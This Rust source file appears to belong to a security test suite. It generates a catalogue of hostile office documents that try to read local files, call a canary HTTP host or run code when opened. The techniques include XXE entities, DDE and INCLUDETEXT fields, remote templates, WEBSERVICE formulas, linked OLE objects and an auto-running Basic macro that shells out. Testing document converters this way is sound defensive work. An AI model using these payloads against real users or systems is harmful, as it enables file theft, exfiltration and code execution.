//! The attacks of documents: each tries to reach the network or files of the machine, or to run code.

use super::made::{
    connected, drawing, external_link, field, formula, open_document, sheet, slide, slide_picture, word,
    word_settings,
};

/// A document that tries something: `HTTP` is the canary's address, `FILES` the folder with planted files.
pub struct Attack {
    pub name: &'static str,
    pub kind: &'static str,
    pub make: fn(&DocumentTargets) -> Vec<u8>,
}

/// What an attack aims at.
#[derive(Default)]
pub struct DocumentTargets {
    pub http: String,
    pub text: String,
    pub picture: String,
    pub document: String,
    /// A workbook, and the name of one of its sheets.
    pub workbook: String,
    pub sheet: String,
    pub folder: String,
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "linked picture",
        kind: "docx",
        make: |aim| word(&drawing("r:link=\"r1\""), &[("image", &format!("{}/a.png", aim.http))], &[]),
    },
    Attack {
        name: "linked picture of the machine",
        kind: "docx",
        make: |aim| word(&drawing("r:link=\"r1\""), &[("image", &aim.picture)], &[]),
    },
    Attack {
        name: "embedded picture elsewhere",
        kind: "docx",
        make: |aim| word(&drawing("r:embed=\"r1\""), &[("image", &format!("{}/b.png", aim.http))], &[]),
    },
    Attack {
        name: "embedded picture of the machine",
        kind: "docx",
        make: |aim| word(&drawing("r:embed=\"r1\""), &[("image", &aim.picture)], &[]),
    },
    Attack {
        name: "picture by a path",
        kind: "docx",
        make: |aim| {
            word(
                &drawing("r:embed=\"r1\""),
                &[("image", &aim.picture.replace("file://", "../../../../../../.."))],
                &[],
            )
        },
    },
    Attack {
        name: "old picture of the machine",
        kind: "docx",
        make: |aim| {
            let shape = "<w:p><w:r><w:pict><v:shape style=\"width:200pt;height:200pt\"><v:imagedata r:id=\"r1\" o:href=\"FILE\" src=\"FILE\"/></v:shape></w:pict></w:r></w:p>";
            word(&shape.replace("FILE", &aim.picture), &[("image", &aim.picture)], &[])
        },
    },
    Attack {
        name: "INCLUDEPICTURE",
        kind: "docx",
        make: |aim| {
            word(
                &[
                    field(&format!("INCLUDEPICTURE \"{}\" \\d", aim.picture)),
                    field(&format!("INCLUDEPICTURE \"{}/c.png\" \\d", aim.http)),
                ]
                .concat(),
                &[],
                &[],
            )
        },
    },
    Attack {
        name: "INCLUDETEXT",
        kind: "docx",
        make: |aim| {
            word(
                &[
                    field(&format!("INCLUDETEXT \"{}\"", aim.text)),
                    field(&format!("INCLUDETEXT \"{}/d.docx\"", aim.http)),
                ]
                .concat(),
                &[],
                &[],
            )
        },
    },
    Attack {
        name: "INCLUDETEXT of a document",
        kind: "docx",
        make: |aim| word(&field(&format!("INCLUDETEXT \"{}\"", aim.document)), &[], &[]),
    },
    Attack {
        name: "DDE field",
        kind: "docx",
        make: |aim| {
            word(
                &[
                    field(&format!("DDEAUTO soffice \"{}\" a", aim.document)),
                    field(&format!("DDE soffice \"{}\" a", aim.text)),
                ]
                .concat(),
                &[],
                &[],
            )
        },
    },
    Attack {
        name: "attached template",
        kind: "docx",
        make: |aim| {
            word_settings(
                "<w:attachedTemplate r:id=\"r1\"/>",
                &[("attachedTemplate", &format!("{}/t.dotm", aim.http))],
            )
        },
    },
    Attack {
        name: "attached template of the machine",
        kind: "docx",
        make: |aim| {
            word_settings("<w:attachedTemplate r:id=\"r1\"/>", &[("attachedTemplate", &aim.document)])
        },
    },
    Attack {
        name: "mail merge",
        kind: "docx",
        make: |aim| {
            word_settings(
                "<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:dataType w:val=\"textFile\"/><w:query w:val=\"SELECT * FROM secret.csv\"/><w:dataSource r:id=\"r1\"/></w:mailMerge>",
                &[("mailMergeSource", &format!("{}secret.csv", aim.folder))],
            )
        },
    },
    Attack {
        name: "imported part",
        kind: "docx",
        make: |aim| {
            word(
                "<w:altChunk r:id=\"r1\"/><w:altChunk r:id=\"r2\"/>",
                &[("aFChunk", &format!("{}/e.html", aim.http)), ("aFChunk", &aim.text)],
                &[],
            )
        },
    },
    Attack {
        name: "imported page",
        kind: "docx",
        make: |aim| {
            let page = format!(
                "<html><body><img src=\"{0}\"><img src=\"{1}/f.png\"><iframe src=\"{2}\"></iframe><link rel=stylesheet href=\"{1}/g.css\"></body></html>",
                aim.picture, aim.http, aim.text
            );
            word(
                "<w:altChunk r:id=\"r1\"/>",
                &[("aFChunk", "page.html")],
                &[("word/page.html", page.as_bytes())],
            )
        },
    },
    Attack {
        name: "sub-document",
        kind: "docx",
        make: |aim| word("<w:p><w:subDoc r:id=\"r1\"/></w:p>", &[("subDocument", &aim.document)], &[]),
    },
    Attack {
        name: "linked OLE object",
        kind: "docx",
        make: |aim| {
            word(
                "<w:p><w:r><w:object><v:shape style=\"width:200pt;height:200pt\"/><o:OLEObject Type=\"Link\" ProgID=\"Excel.Sheet.12\" ShapeID=\"s\" DrawAspect=\"Content\" r:id=\"r1\" UpdateMode=\"Always\"/></w:object></w:r></w:p>",
                &[("oleObject", &aim.workbook)],
                &[],
            )
        },
    },
    Attack {
        name: "svg picture",
        kind: "docx",
        make: |aim| {
            let svg = format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"200\" height=\"200\"><image width=\"99\" height=\"99\" xlink:href=\"{}\"/><image width=\"99\" height=\"99\" xlink:href=\"{}/h.png\"/></svg>",
                aim.picture, aim.http
            );
            word(
                &drawing("r:embed=\"r1\""),
                &[("image", "media/p.svg")],
                &[("word/media/p.svg", svg.as_bytes())],
            )
        },
    },
    Attack {
        name: "svg with an entity",
        kind: "docx",
        make: |aim| {
            let svg = format!(
                "<!DOCTYPE svg [<!ENTITY e SYSTEM \"{}\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"99\"><text y=\"50\">&e;</text></svg>",
                aim.text
            );
            word(
                &drawing("r:embed=\"r1\""),
                &[("image", "media/p.svg")],
                &[("word/media/p.svg", svg.as_bytes())],
            )
        },
    },
    Attack {
        name: "WEBSERVICE",
        kind: "xlsx",
        make: |aim| sheet(&formula(&format!("_xlfn.WEBSERVICE(\"{}/i\")", aim.http)), "", &[], &[]),
    },
    Attack {
        name: "WEBSERVICE of the machine",
        kind: "xlsx",
        make: |aim| sheet(&formula(&format!("_xlfn.WEBSERVICE(\"{}\")", aim.text)), "", &[], &[]),
    },
    Attack {
        name: "formula to another file",
        kind: "xlsx",
        make: |aim| {
            let (folder, name) = aim.workbook.rsplit_once('/').unwrap();
            sheet(&formula(&format!("'{folder}/[{name}]{}'!$A$1", aim.sheet)), "", &[], &[])
        },
    },
    Attack {
        name: "linked workbook",
        kind: "xlsx",
        make: |aim| {
            linked(
                aim,
                "<externalBook r:id=\"r1\"><sheetNames><sheetName val=\"SHEET\"/></sheetNames></externalBook>",
                "[1]SHEET!$A$1",
            )
        },
    },
    Attack {
        name: "linked workbook elsewhere",
        kind: "xlsx",
        make: |aim| {
            let elsewhere = DocumentTargets {
                workbook: format!("{}/secret.xlsx", aim.http),
                sheet: aim.sheet.clone(),
                ..DocumentTargets::default()
            };
            linked(
                &elsewhere,
                "<externalBook r:id=\"r1\"><sheetNames><sheetName val=\"SHEET\"/></sheetNames></externalBook>",
                "[1]SHEET!$A$1",
            )
        },
    },
    Attack {
        name: "DDE link",
        kind: "xlsx",
        make: |aim| {
            linked(
                aim,
                "<ddeLink ddeService=\"soffice\" ddeTopic=\"secret.xlsx\"><ddeItems><ddeItem name=\"A1\" advise=\"1\"/></ddeItems></ddeLink>",
                "[1]!A1",
            )
        },
    },
    Attack {
        name: "DDE formula",
        kind: "xlsx",
        make: |aim| {
            sheet(
                &formula(&format!("DDE(\"soffice\",\"{}\",\"{}.A1\")", aim.workbook, aim.sheet)),
                "",
                &[],
                &[],
            )
        },
    },
    Attack {
        name: "query of a text file",
        kind: "xlsx",
        make: |aim| connected("type=\"6\"", &format!("<textPr sourceFile=\"{}\"/>", aim.text)),
    },
    Attack {
        name: "linked picture",
        kind: "pptx",
        make: |aim| slide(&slide_picture("r:link=\"r1\"", ""), &[("image", &format!("{}/j.png", aim.http))]),
    },
    Attack {
        name: "linked picture of the machine",
        kind: "pptx",
        make: |aim| {
            slide(
                &[slide_picture("r:link=\"r1\"", ""), slide_picture("r:embed=\"r1\"", "")].concat(),
                &[("image", &aim.picture)],
            )
        },
    },
    Attack {
        name: "linked film and sound",
        kind: "pptx",
        make: |aim| {
            slide(
                &slide_picture("r:embed=\"r2\"", "<a:videoFile r:link=\"r1\"/>"),
                &[("video", &format!("{}/k.mp4", aim.http)), ("image", &aim.picture)],
            )
        },
    },
    Attack {
        name: "linked OLE object",
        kind: "pptx",
        make: |aim| {
            slide(
                "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"9\" name=\"o\"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"3000000\" cy=\"3000000\"/></p:xfrm><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><p:oleObj name=\"w\" r:id=\"r1\" progId=\"Excel.Sheet.12\"><p:link updateAutomatic=\"1\"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>",
                &[("oleObject", &aim.workbook)],
            )
        },
    },
    Attack {
        name: "linked section",
        kind: "docx",
        make: |aim| {
            open_document(
                "text",
                &format!(
                    "<text:section text:name=\"s\"><text:section-source xlink:href=\"{0}\" xlink:type=\"simple\"/><text:p>own text</text:p></text:section><text:section text:name=\"t\"><text:section-source xlink:href=\"{1}\" text:filter-name=\"Text\"/><text:p/></text:section><text:section text:name=\"u\"><text:section-source xlink:href=\"{2}/l.odt\"/><text:p/></text:section>",
                    aim.document, aim.text, aim.http
                ),
                "",
                &[],
            )
        },
    },
    Attack {
        name: "linked pictures",
        kind: "docx",
        make: |aim| {
            open_document(
                "text",
                &format!(
                    "<text:p>own text<draw:frame svg:width=\"9cm\" svg:height=\"9cm\"><draw:image xlink:href=\"{}\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame><draw:frame svg:width=\"5cm\" svg:height=\"5cm\"><draw:image xlink:href=\"{}/m.png\" xlink:type=\"simple\" xlink:actuate=\"onLoad\"/></draw:frame></text:p>",
                    aim.picture, aim.http
                ),
                "",
                &[],
            )
        },
    },
    Attack {
        name: "floating frame",
        kind: "docx",
        make: |aim| {
            open_document(
                "text",
                &format!(
                    "<text:p>own text<draw:frame svg:width=\"9cm\" svg:height=\"9cm\"><draw:floating-frame xlink:href=\"{}\" xlink:type=\"simple\" xlink:actuate=\"onLoad\"/></draw:frame><draw:frame svg:width=\"9cm\" svg:height=\"9cm\"><draw:object xlink:href=\"{}\" xlink:type=\"simple\" xlink:actuate=\"onLoad\"/></draw:frame></text:p>",
                    aim.text, aim.workbook
                ),
                "",
                &[],
            )
        },
    },
    Attack { name: "macro at opening", kind: "docx", make: macro_document },
    Attack {
        name: "linked table",
        kind: "xlsx",
        make: |aim| {
            open_document(
                "spreadsheet",
                &format!(
                    "<table:table table:name=\"T\"><table:table-source xlink:href=\"{0}\" xlink:type=\"simple\" xlink:actuate=\"onRequest\" table:table-name=\"{2}\"/><table:table-row><table:table-cell><text:p>own text</text:p></table:table-cell><table:table-cell table:formula=\"of:='{0}'#${2}.A1\"/><table:table-cell table:formula=\"of:=WEBSERVICE(&quot;{1}/n&quot;)\"/></table:table-row></table:table>",
                    aim.workbook, aim.http, aim.sheet
                ),
                "",
                &[],
            )
        },
    },
    Attack {
        name: "fields of RTF",
        kind: "docx",
        make: |aim| {
            format!("{{\\rtf1\\ansi{{\\*\\template {1}/o.dot}} own text {{\\field{{\\*\\fldinst INCLUDEPICTURE \"{0}\" \\\\d}}{{\\fldrslt x}}}}{{\\field{{\\*\\fldinst INCLUDETEXT \"{2}\"}}{{\\fldrslt x}}}}{{\\field{{\\*\\fldinst INCLUDEPICTURE \"{1}/p.png\"}}{{\\fldrslt x}}}}\\par}}", aim.picture, aim.http, aim.text).into_bytes()
        },
    },
];

/// An Excel file with one link and a formula that uses it.
pub fn linked(aim: &DocumentTargets, link: &str, used: &str) -> Vec<u8> {
    let [link, used] = [link, used].map(|text| text.replace("SHEET", &aim.sheet));
    let parts = external_link(&link, &aim.workbook);
    let parts: Vec<(&str, &[u8])> =
        parts.iter().map(|(path, part)| (path.as_str(), part.as_bytes())).collect();
    let book = "<externalReferences><externalReference r:id=\"r2\"/></externalReferences>";
    sheet(&formula(&used), book, &[("externalLink", "externalLinks/externalLink1.xml")], &parts)
}

/// Runs a Basic macro when it is opened, which writes a file and asks the network.
fn macro_document(aim: &DocumentTargets) -> Vec<u8> {
    let (folder, http) = (aim.folder.trim_start_matches("file://"), &aim.http);
    let module = format!(
        "<?xml version=\"1.0\"?><script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"M\" script:language=\"StarBasic\">\
         Sub Main\n Open &quot;{folder}ran&quot; For Output As #1\n Print #1, 1\n Close #1\n Shell(&quot;/usr/bin/touch&quot;, 0, &quot;{folder}shell&quot;)\n \
         x = CreateUnoService(&quot;com.sun.star.ucb.SimpleFileAccess&quot;).openFileRead(&quot;{http}/q&quot;)\nEnd Sub</script:module>"
    );
    let library = "<library:library xmlns:library=\"http://openoffice.org/2000/library\" library:name=\"Standard\" library:readonly=\"false\" library:passwordprotected=\"false\"><library:element library:name=\"M\"/></library:library>";
    let libraries = "<library:libraries xmlns:library=\"http://openoffice.org/2000/library\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><library:library library:name=\"Standard\" library:link=\"false\"/></library:libraries>";
    let listeners = "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document\" xlink:type=\"simple\"/></office:event-listeners></office:scripts>";
    open_document(
        "text",
        "<text:p>own text</text:p>",
        listeners,
        &[
            ("Basic/script-lc.xml", libraries.as_bytes()),
            ("Basic/Standard/script-lb.xml", library.as_bytes()),
            ("Basic/Standard/M.xml", module.as_bytes()),
        ],
    )
}
